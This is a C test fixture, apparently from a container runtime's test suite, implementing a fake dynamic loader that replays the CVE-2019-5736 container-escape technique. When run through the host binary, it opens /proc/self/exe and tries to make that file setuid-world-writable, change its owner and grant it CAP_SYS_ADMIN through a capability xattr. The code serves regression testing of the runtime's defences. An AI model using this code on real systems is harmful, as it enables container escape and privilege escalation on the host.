/* A hostile image's dynamic loader, for the binary take-over tests (runc's
 * CVE-2019-5736). An image ships it as /lib64/ld-linux-x86-64.so.2 and makes
 * a command the script "#!/proc/self/exe": if nrun's own image ever execs
 * that command, the kernel runs the host's nrun binary under this "loader",
 * whose /proc/self/exe is then the host file. It attacks the file the way
 * the exploit did and reports each step on stdout, then exits 0.
 *
 * If the exec went through nrun's sealed trampoline instead, the interpreter
 * is the trampoline (a static program: no loader), and this never runs.
 * No libc: a loader starts before there is one. x86-64 only. */
#define NR_write 1
#define NR_open 2
#define NR_fchmod 91
#define NR_fchown 93
#define NR_fsetxattr 190
#define NR_exit_group 231

static long sys5(long n, long a, long b, long c, long d, long e) {
  long ret;
  register long r10 __asm__("r10") = d;
  register long r8 __asm__("r8") = e;
  __asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8) : "rcx", "r11", "memory");
  return ret;
}

static unsigned long length(const char* s) {
  unsigned long n = 0;
  while (s[n]) ++n;
  return n;
}

static void say(const char* what, long rc) {
  sys5(NR_write, 1, (long)what, (long)length(what), 0, 0);
  const char* verdict = rc < 0 ? " refused\n" : " done\n";
  sys5(NR_write, 1, (long)verdict, (long)length(verdict), 0, 0);
}

__attribute__((noreturn, used)) void loader_main(void) {
  say("fake-loader: running", 0);
  const long fd = sys5(NR_open, (long)"/proc/self/exe", 0 /* O_RDONLY */, 0, 0, 0);
  say("fake-loader: open /proc/self/exe", fd);
  if (fd >= 0) {
    say("fake-loader: chmod 04777", sys5(NR_fchmod, fd, 04777, 0, 0, 0));
    say("fake-loader: chown 1000:1000", sys5(NR_fchown, fd, 1000, 1000, 0, 0));
    /* vfs_cap_data revision 2, effective, permitted = CAP_SYS_ADMIN (21). */
    static const unsigned int cap[5] = {0x02000001u, 1u << 21, 0, 0, 0};
    say("fake-loader: setxattr security.capability",
        sys5(NR_fsetxattr, fd, (long)"security.capability", (long)cap, sizeof cap, 0));
  }
  for (;;) sys5(NR_exit_group, 0, 0, 0, 0, 0);
}

__asm__(
    ".text\n"
    ".globl _start\n"
    "_start:\n"
    "  xor %ebp, %ebp\n"
    "  and $-16, %rsp\n"
    "  call loader_main\n"
    "  hlt\n");
